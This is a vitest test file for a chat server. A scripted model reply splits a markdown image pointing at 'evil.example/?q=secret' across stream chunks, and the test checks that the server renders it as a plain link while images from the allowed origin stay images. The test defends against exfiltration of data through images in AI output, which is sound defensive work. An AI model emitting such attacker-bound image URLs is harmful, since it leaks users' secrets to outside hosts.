import { afterAll, beforeAll, expect, test } from 'vitest';
import { trpc } from '../harness/people.ts';
import { startServer, type TestServer } from '../harness/start-server.ts';

let server: TestServer;
beforeAll(async () => {
  server = await startServer({ config: { imageOrigins: ['https://images.example.com'] } });
});
afterAll(() => server.close());

test('C4, G5: an image that would carry something away is a link in the answer, its events and the history', async () => {
  server.model.script({
    text: [
      'Look: !',
      '[chart](htt',
      'ps://evil.example/?q=',
      'secret) ',
      '![logo](https://images.example.com/l.png)!',
    ],
  });
  const expected = 'Look: [chart](https://evil.example/?q=secret) ![logo](https://images.example.com/l.png)!';
  const { conversationId, runId, message } = await trpc(server).chat.send.mutate({ message: 'Show me' });
  expect(message.text).toBe(expected);
  const { messages } = await trpc(server).conversation.history.query({ conversationId });
  expect(messages.at(-1)?.text).toBe(expected);
  expect((await trpc(server).chat.run.query({ runId })).text).toBe(expected);
});
